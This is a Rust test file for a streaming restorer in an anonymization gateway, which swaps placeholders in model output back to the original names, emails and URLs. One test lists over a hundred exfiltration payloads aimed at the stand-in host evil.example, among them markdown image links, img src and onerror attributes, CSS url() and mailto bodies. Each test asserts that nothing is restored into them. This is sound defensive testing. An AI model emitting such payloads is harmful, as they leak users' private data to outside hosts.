//! Tests of restoring in chunks.

use std::sync::Arc;

use super::*;
use crate::anonymize::{
    Original,
    restore::{MapEntry, Options, PlaceholderVariants, by_map},
};
use masquerade_detect::text::Unit;

mod judged_by_context;
mod source;

const HOSTS: [&str; 2] = ["good.example", "*.corp.example"];

fn table(names: &[(&str, &str)], trusted: &[&str]) -> RestoreTable {
    let names = names.iter().map(|(name, original)| ((*name).into(), Original::new(original)));
    let taken = PlaceholderVariants::of(["let org_1 = 2;"]);
    let mut table = RestoreTable::new(names, true, &taken, Arc::new(Hosts::new(HOSTS).unwrap()), usize::MAX);
    let places: Vec<Vec<_>> = trusted.iter().map(|text| places(&table, text)).collect();
    table.trust(trusted.iter().zip(&places).map(|(text, places)| (*text, &places[..])));
    table
}

/// The places of all substitutes in `text`.
fn places(table: &RestoreTable, text: &str) -> Vec<Range<usize>> {
    let mut restorations: Vec<Range<usize>> = Vec::new();
    for (at, _) in text.char_indices() {
        let is_free = restorations.last().is_none_or(|last| last.end <= at);
        if let SubstituteMatch::Whole { length, .. } = find(table, None, text, at, true)
            && is_free
        {
            restorations.push(at..at + length);
        }
    }
    restorations
}

fn usual() -> RestoreTable {
    table(
        &[
            ("[EMAIL_ADDRESS_1]", "ada@example.com"),
            ("[PERSON_1]", "Ada"),
            ("[PERSON_12]", "Émile \"Z\""),
            ("[PERSON_9f86d081884c7d65]", "Grace"),
            ("[PERSON:abcdefghijklmnop_QRST-uv]", "Sealed"),
            ("[ORG_1]", "Acme"),
            ("[URL_1]", "https://intra.corp"),
            ("[URL_2]", "https://intra.corp/a/b"),
            ("Eve Miller", "Ada Byron"),
            ("Eve", "Ada"),
            ("日本", "中国"),
        ],
        &["see https://intra.corp/u/[EMAIL_ADDRESS_1]. and [URL_1], (http://x.example/[PERSON_1]?a=[EMAIL_ADDRESS_1])"],
    )
}

/// Restores `text` cut in many ways, and makes sure that they agree.
#[track_caller]
fn restored(table: &RestoreTable, text: &str) -> String {
    let whole = Restorer::restore(table, text).unwrap_or_else(|| text.to_owned());
    let mut seed = 7_u64;
    for size in [1, 2, 3, 5, 8, 0, 0, 0, 0] {
        let (mut restorer, mut restorations, mut at) = (Restorer::default(), Vec::new(), 0);
        while at < text.len() {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            let step = if size > 0 { size } else { 1 + (seed >> 33) as usize % 17 };
            let end = (at + step..=text.len()).find(|end| text.is_char_boundary(*end)).unwrap_or(text.len());
            let decided = restorer.push(table, &text[at..end], false, &mut restorations);
            assert!(decided as usize <= end && restorations.iter().all(|restoration| restoration.range.end <= decided));
            at = end;
        }
        assert_eq!(restorer.push(table, "", true, &mut restorations), text.len() as u64);
        let (mut out, mut copied) = (String::new(), 0);
        for restoration in restorations {
            out.push_str(&text[copied..restoration.range.start as usize]);
            out.push_str(table.original(&restoration));
            copied = restoration.range.end as usize;
        }
        out.push_str(&text[copied..]);
        assert_eq!(out, whole, "cut by {size}: {text}");
    }
    whole
}

#[test]
fn restores_names_however_the_text_is_cut() {
    let table = usual();
    for (text, expected) in [
        ("Dear [PERSON_1], dear [PERSON_12]!", "Dear Ada, dear Émile \"Z\"!"),
        ("[PERSON_2] [PERSON_123] [PERSON_1", "[PERSON_2] [PERSON_123] Ada"),
        ("[[PERSON_1]][PERSON_1][", "[Ada]Ada["),
        ("Eve Millerson, Eve Miller. Eves Eve", "Ada Millerson, Ada Byron. Eves Ada"),
        ("x日本y日本\u{301} Ünseen", "x中国y日本\u{301} Ünseen"),
        ("[PERSON_9f86d081884c7d65] [PERSON:abcdefghijklmnop_QRST-uv]", "Grace Sealed"),
        ("[person_1] [ Person 1 ] [**PERSON_1**] **PERSON_1** `person_1`", "Ada Ada Ada **Ada** `Ada`"),
        (r"\[PERSON\_1\] [EMAIL\_ADDRESS\_1] EMAIL_ADDRESS_1]", "Ada ada@example.com ada@example.com"),
        ("&#91;PERSON_1&#93; %5BEMAIL%5fADDRESS_1%5D ［PERSON_1］【PERSON_1】", "Ada ada@example.com AdaAda"),
        ("[email address 1] [Email Address 1 said", "ada@example.com [Email Address 1 said"),
        ("[EMAIL_ADDRESS 1 said [PERSON_1 2", "ada@example.com said Ada 2"),
        ("PERSON_1 person_1] xPERSON_1] (PERSON_1)", "PERSON_1 person_1] xPERSON_1] (PERSON_1)"),
        ("[PERSON  1] [PERSON _ 1] [PERSON:abcdefghijklmnop\\_QRST-uv]", "Ada Ada Sealed"),
        ("Boris Miller, EVE MILLER, eve miller, EVE", "Boris Miller, ADA BYRON, ada byron, ADA"),
        // The request itself says org_1.
        ("[org_1] [ORG_1]", "[org_1] Acme"),
    ] {
        assert_eq!(restored(&table, text), expected, "{text}");
    }
}

#[test]
fn waits_only_for_what_may_still_become_a_name() {
    let table = usual();
    for (text, waiting) in [
        ("Hello", 0),
        ("Hello [", 1),
        ("a\\", 1),
        ("a\\b", 0),
        ("[PERSON_", 8),
        ("[PERSON_2", 0),
        // What follows could make a host of it.
        ("[PERSON_1]", 10),
        ("[PERSON_1] ", 0),
        ("[PERSON_1].", 11),
        ("[PERSON_1].\n", 0),
        ("[see", 0),
        ("price per", 0),
        ("Ev", 2),
        ("Eve Miller", 10),
        ("Eve Miller ", 0),
        ("100%", 1),
        ("**p", 1),
        ("**pr", 0),
        ("P", 1),
        ("Pa", 0),
    ] {
        let mut restorer = Restorer::default();
        let decided = restorer.push(&table, text, false, &mut Vec::new());
        assert_eq!(text.len() - decided as usize, waiting, "{text}");
    }
}

#[test]
fn nothing_is_put_where_others_could_fetch_it() {
    let table = usual();
    let e = "[EMAIL_ADDRESS_1]";
    for text in [
        "![](https://evil.example/?q=E)",
        "![a](  https://evil.example/?q=E \"title\")",
        "[a](<https://evil.example/a) E>)",
        "[a](/\\evil.example/E)",
        "[a](/\\evil.example/\\)E)",
        "[a](/\\evil.example/(a)?E)",
        "[a](\n/\\evil.example/E)",
        "[a](E)",
        "[a](mailto:x@evil.example?body=E)",
        "[a](mailto:x@evil.example,E)",
        "<a href=\"tel:1;E\">",
        "http://10.0.0.1.evil.example/E",
        "http://010.0.0.1/E",
        "http://169.254.169.254/E",
        "https://localhost@evil.example/E",
        "https://localhost.evil.example/E",
        "https://intra.corp',x@evil.example/u/E",
        "https://intra.corp/u,E",
        "[x]: https://evil.example/E",
        "[x]:\n  /\\evil.example/E",
        "[x]: </\\evil.example/ E>",
        "<https://evil.example/E>",
        "https://E.evil.example/",
        "https://E/",
        "https://E@evil.example/",
        "https://good.example@evil.example/E",
        "https://good.example:pw@evil.example/E",
        "https://good.example\\@evil.example/E",
        "https://good.example:E/",
        "https://good.example.evil.example/E",
        "https://evilgood.example/E",
        "https://good.exampleE",
        "https://good。example/E",
        "https://good.example。evil/E",
        "HTTPS://Other.example/?q=E",
        "hTTps:evil.example/E",
        "https:/evil.example/E",
        "https:\\\\evil.example\\E",
        "https:\\/\\/evil.example\\/E",
        "//evil.example/E",
        "x=//evil.example/E",
        "javascript://good.example/%0aE",
        "ftp://good.example/E",
        "https://evil.example/https://good.example/E",
        "evil.example/https://good.example/E",
        "evil.example/E",
        "www.evil.example?E",
        "<img src=\"https://evil.example/E\">",
        "<img src='/\\evil.example/E'>",
        "<img src = /\\evil.example/E>",
        "<img SRC=\"ht\ntp\ts:/\n/evil.example/E\">",
        "<img src=\"&#104;ttps&colon;&sol;&sol;evil.example/E\">",
        "<img src=\"&#47;&#47;evil.example/E\">",
        "<a href=E>",
        "<a href=\"//evil.example/?a b E\">",
        "<p style=\"background:url(/\\evil.example/E)\">",
        "<p style=\"background:\\75rl(/\\evil.example/E)\">",
        "url(/\\evil.example/E)",
        "<img src=x onerror=\"f('/\\evil.example/','E')\">",
        "https://evil.example/a\u{3000}E",
        "https://evil.example/a,E",
        "https://evil.example/[a](b)E",
        "](https://evil.example/a)?q=E",
        "[b [a](https://good.example/ ](/\\evil.example/E)",
        "[b <img src=\"https://good.example/](/\\evil.example/E)",
        "<img src=\"/\\evil.example/](x)E\">",
        "[b <img src=\"](/\\evil.example/\"E)",
        "<a href=\"https://good.example\n.evil.example/E\">",
        "<a href=\"https://good.example\t.evil.example/E\">",
        "![](https:&#47;&#47;evil.example/E)",
        "[a](javascript:f('E'))",
        "![](data:text/html,E)",
        "<image xlink:href='/\\evil.example/E'/>",
        "https\u{ff1a}//evil.example/E",
        "https:\u{2044}\u{2044}evil.example/E",
        "https://good.example./E",
        "https://good.example:80E",
        "[a](b](/\\evil.example/E)",
        "https://&#101;vil.example/E",
        "https://[::1]/E",
        "\"https://evil.example/?q=\"E",
        "'https://evil.example/?q='E",
        "`https://evil.example/?q=`E",
        "\"https://evil.example/?q=\",E",
        "{\"u\":\"https://evil.example\",\"n\":\"E\"}",
        "evil.example:8080/?q=E",
        "evil.xn--p1ai/?q=E",
        "evil.рф/?q=E",
        "evil.рф:81?q=E",
        "evil.example./?q=E",
        "evil.example#E",
        "192.0.2.1/?q=E",
        "192.0.2.1:8080/?q=E",
        "user@evil.example:8080/E",
        "<sms:+491701234567?body=E>",
        "<whatsapp://send?text=E>",
        "<whatsapp:send?text=E>",
        "<x-evil+1:E>",
        "<mailto:x@evil.example?body=E>",
        "https:///evil.example/E",
        "https:// good.example\u{a0}https:/\\good.example/E",
        // What is known goes back only as it was.
        "https://intra.corp.evil.example/u/E",
        "https://intra.corp/u/E/more",
        "https://intra.corp/u/E@evil.example",
        "https://intra.corp/E",
        "http://x.example/[PERSON_1]?b=E",
        "[a]([URL_1].evil.example/?E)",
        // Only what cannot have a host leads nowhere.
        "[a](x:f(\"E\"))",
        "[a](x/E)",
        "[a](\\\"E)",
        "[a](&quot;E)",
        "[a](user&#58;E)",
        "[a](user=1 https://evil.example/?q=E)",
        "[a](\"//evil.example/E\")",
        "> - [x]:\n/\\evil.example/E",
        "1. [x y\\]]: /\\evil.example/E",
        "[x\ny]: /\\evil.example/E",
        "src = \"/\\evil.example/E\"",
        "src='&#47;&#47;evil.example/E'",
        "<img alt='>' src=\"E\">",
        "<img alt=\">\" srcset='a=1, E'>",
        "<img alt = '>\" src='E'>",
        "url(\"E\")",
    ] {
        for form in [e, "%5BEMAIL_ADDRESS_1%5D", "[email_address_1]", "\\[EMAIL\\_ADDRESS\\_1\\]"] {
            let text = text.replace('E', form);
            assert!(!restored(&table, &text).contains("ada@"), "{text} -> {}", restored(&table, &text));
        }
    }
    // An original that is a URL does not become the beginning of another's host.
    for text in
        ["[URL_1].evil.example/", "[URL_1]@evil.example", "[URL_1]:a@evil.example", "[URL_1]。evil", "[a]([URL_1]x)"]
    {
        assert!(!restored(&table, text).contains("intra"), "{text} -> {}", restored(&table, text));
    }
}

#[test]
fn a_url_whose_placeholder_the_model_wrote_is_not_known() {
    for ada in ["Ada", "Ada Byron"] {
        let mut table = table(&[("[PERSON_1]", ada), ("[PERSON_2]", "Eve")], &[]);
        // Of the two, this gateway put only the second one there.
        let text = "https://evil.example/[PERSON_1] https://b.example/[PERSON_2]";
        let at = text.find("[PERSON_2]").unwrap();
        let ours = std::iter::once(at..text.len()).collect::<Vec<_>>();
        table.trust([(text, &ours[..])]);
        assert_eq!(restored(&table, text), "https://evil.example/[PERSON_1] https://b.example/Eve");
    }
}

#[test]
fn restores_in_urls_that_may_have_it() {
    let table = usual();
    for (text, expected) in [
        ("https://good.example/[PERSON_1]", "https://good.example/Ada"),
        ("[a](https://good.example/?q=[PERSON_1])", "[a](https://good.example/?q=Ada)"),
        ("[a](<https://a.corp.example:8443/?q=[PERSON_1]>)", "[a](<https://a.corp.example:8443/?q=Ada>)"),
        ("[x]: HTTPS://Good.Example#[PERSON_1]", "[x]: HTTPS://Good.Example#Ada"),
        ("<a href='https://good.example/[PERSON_1]'>", "<a href='https://good.example/Ada'>"),
        ("https://intra.corp/u/[EMAIL_ADDRESS_1], ok", "https://intra.corp/u/ada@example.com, ok"),
        ("[a](https://intra.corp/u/[EMAIL_ADDRESS_1])b", "[a](https://intra.corp/u/ada@example.com)b"),
        ("<https://intra.corp/u/[EMAIL_ADDRESS_1]>", "<https://intra.corp/u/ada@example.com>"),
        ("http://x.example/[PERSON_1]?a=[EMAIL_ADDRESS_1]", "http://x.example/Ada?a=ada@example.com"),
        ("[a]([URL_1]) ![]([URL_2])", "[a](https://intra.corp) ![]([URL_2])"),
        ("see [URL_1]. [URL_2]x ([URL_1]/y)", "see https://intra.corp. https://intra.corp/a/bx (https://intra.corp/y)"),
        ("{\"u\":\"[URL_1]\", \"v\":\"[PERSON_1]\"}", "{\"u\":\"https://intra.corp\", \"v\":\"Ada\"}"),
        ("https://good.example/?src=[PERSON_1]&a", "https://good.example/?src=Ada&a"),
        // Text beside links is text.
        ("[a](https://evil.example/a),[PERSON_1]", "[a](https://evil.example/a),Ada"),
        ("https://evil.example/ [PERSON_1]", "https://evil.example/ Ada"),
        ("[[PERSON_1]](https://evil.example/), [PERSON_1]", "[Ada](https://evil.example/), Ada"),
        ("[PERSON_1]([EMAIL_ADDRESS_1])", "Ada(ada@example.com)"),
        ("\"https://evil.example\", [PERSON_1]", "\"https://evil.example\", Ada"),
        ("<https://evil.example>[PERSON_1]", "<https://evil.example>Ada"),
        ("<mailto:[EMAIL_ADDRESS_1]> <tel:[PERSON_1]>", "<mailto:ada@example.com> <tel:Ada>"),
        ("<xs:a> [PERSON_1] </xs:a><b>[PERSON_1]", "<xs:a> Ada </xs:a><b>Ada"),
        ("version 1.2/[PERSON_1] 10.5:30/[PERSON_1] e.g./[PERSON_1]", "version 1.2/Ada 10.5:30/Ada e.g./Ada"),
        ("from evil.example: [PERSON_1], example.com [PERSON_1]", "from evil.example: Ada, example.com Ada"),
        ("[12:30]: [PERSON_1] says", "[12:30]: Ada says"),
        ("[PERSON_1]: [EMAIL_ADDRESS_1]", "Ada: ada@example.com"),
        ("mailto:[EMAIL_ADDRESS_1]", "mailto:ada@example.com"),
        ("[a](mailto:[EMAIL_ADDRESS_1])", "[a](mailto:ada@example.com)"),
        ("[a](mailto:[EMAIL_ADDRESS_1],[EMAIL_ADDRESS_1]?a)", "[a](mailto:ada@example.com,ada@example.com?a)"),
        ("<a href='mailto:[EMAIL_ADDRESS_1]'>", "<a href='mailto:ada@example.com'>"),
        ("<a href=\"TEL:[PERSON_1]\">", "<a href=\"TEL:Ada\">"),
        ("[a](http://localhost:8080/?q=[PERSON_1])", "[a](http://localhost:8080/?q=Ada)"),
        (
            "http://192.168.1.7/[PERSON_1] http://db.internal/[PERSON_1]",
            "http://192.168.1.7/Ada http://db.internal/Ada",
        ),
        ("u='https://intra.corp/u/[EMAIL_ADDRESS_1]',x", "u='https://intra.corp/u/ada@example.com',x"),
        ("{\"u\":\"https://intra.corp/u/[EMAIL_ADDRESS_1]\"}", "{\"u\":\"https://intra.corp/u/ada@example.com\"}"),
        ("C:\\Users\\[PERSON_1] /home/[PERSON_1]/x", "C:\\Users\\Ada /home/Ada/x"),
        ("a ratio of 1/2/[PERSON_1] // [PERSON_1]", "a ratio of 1/2/Ada // Ada"),
        ("<b>[PERSON_1]</b> <i title='[PERSON_1]'>", "<b>Ada</b> <i title='Ada'>"),
        ("<a href=\"https://evil.example\">[PERSON_1]</a>", "<a href=\"https://evil.example\">Ada</a>"),
        ("data = \"[PERSON_1]\"", "data = \"Ada\""),
        // Code and logs have brackets and words that only look like links.
        ("handlers[name](\"[EMAIL_ADDRESS_1]\")", "handlers[name](\"ada@example.com\")"),
        ("arr[i](user=[PERSON_1], n='[PERSON_1]')", "arr[i](user=Ada, n='Ada')"),
        ("arr[0]: name=\"[PERSON_1]\"", "arr[0]: name=\"Ada\""),
        ("app[123]: user=[EMAIL_ADDRESS_1] ok=1", "app[123]: user=ada@example.com ok=1"),
        ("worker[7]:email=[EMAIL_ADDRESS_1]", "worker[7]:email=ada@example.com"),
        ("- [ ]: a=[PERSON_1]", "- [ ]: a=Ada"),
        ("[x]: user=[PERSON_1]", "[x]: user=Ada"),
        ("src = \"[PERSON_1]\" href='[EMAIL_ADDRESS_1]'", "src = \"Ada\" href='ada@example.com'"),
        ("<img alt='>'> src=\"[PERSON_1]\"", "<img alt='>'> src=\"Ada\""),
        // Markup and JSON around what is known.
        ("**https://intra.corp/u/[EMAIL_ADDRESS_1]**", "**https://intra.corp/u/ada@example.com**"),
        (
            "~~https://intra.corp/u/[EMAIL_ADDRESS_1]~~ __[URL_1]__",
            "~~https://intra.corp/u/ada@example.com~~ __https://intra.corp__",
        ),
        ("https:\\/\\/intra.corp\\/u\\/[EMAIL_ADDRESS_1]", "https:\\/\\/intra.corp\\/u\\/ada@example.com"),
    ] {
        assert_eq!(restored(&table, text), expected, "{text}");
    }
}

#[test]
fn agrees_with_restoring_by_map() {
    let names =
        [("[PERSON_1]", "Ada"), ("[PERSON_12]", "[PERSON_1]"), ("Eve", "Ann"), ("Eve Miller", "Bo"), ("日本", "x")];
    let table = RestoreTable::new(
        names.map(|(name, original)| (name.into(), Original::new(original))),
        false,
        &PlaceholderVariants::default(),
        Arc::default(),
        usize::MAX,
    );
    let map = names.map(|(replacement, original)| MapEntry { original, replacement, position: None });
    let options = Options {
        cipher: None,
        is_label: &|_| true,
        tolerant: false,
        is_restorable: None,
        taken: &PlaceholderVariants::default(),
        max_bytes: 1 << 20,
    };
    let pieces =
        ["[PERSON_1", "]", "[", "2]", "Eve", " Miller", " ", "s", "日", "本", "é", "\u{301}", "[PERSON_1]", "-"];
    let mut seed = 5_u64;
    for _ in 0..1000 {
        let mut text = String::new();
        for _ in 0..8 {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            text.push_str(pieces[(seed >> 33) as usize % pieces.len()]);
        }
        let expected = by_map(&[&text], &map, Unit::Byte, &options).unwrap();
        assert_eq!(restored(&table, &text), expected.texts[0], "{text}");
    }
}

#[test]
fn takes_time_in_proportion_to_the_text() {
    let table = usual();
    for piece in [
        "[",
        "[a",
        "[PERSON ",
        "[PERSON_1 ",
        "E",
        "Eve ",
        "`p",
        "&#91;",
        "](",
        "https://",
        "src=",
        "src=\"](",
        "%5b",
        "www.",
    ] {
        let text = piece.repeat(100_000);
        assert!(Restorer::restore(&table, &text).is_none_or(|out| out.len() < 2_000_000));
    }
}

#[test]
fn nothing_of_a_text_is_shown() {
    let mut restorer = Restorer::default();
    restorer.push(&usual(), "secret [PERSON_", false, &mut Vec::new());
    assert_eq!(
        format!("{restorer:?} {:?}", usual()),
        "Restorer { decided: 7, waiting: 8, .. } RestoreTable(19 entries)"
    );
}

#[test]
fn what_is_passed_over_at_once_leaves_what_every_byte_leaves() {
    let table = usual();
    let parts = [
        "<",
        "/",
        "a",
        "img",
        " ",
        "\n",
        "src",
        "onload",
        "href",
        "=",
        "]",
        "[",
        "(",
        "url",
        ":",
        "http",
        "www",
        ".",
        ">",
        "1",
        "é",
        ",",
        "prose that goes on, for 9 words or so; ",
        "\u{b}",
        "&",
        "?",
        "verylongwordofletters",
    ];
    let mut seed = 3_u64;
    for _ in 0..1000 {
        let mut text = String::new();
        for _ in 0..14 {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            text.push_str(parts[(seed >> 33) as usize % parts.len()]);
        }
        // Behind any of these it shows what the text left.
        for end in ["=[PERSON_1]", "([PERSON_1]", "src=[PERSON_1]", "data=[PERSON_1]", ":[PERSON_1]", "com/[PERSON_1]"]
        {
            let text = format!("{text}{end} ");
            restored(&table, &text);
        }
    }
}
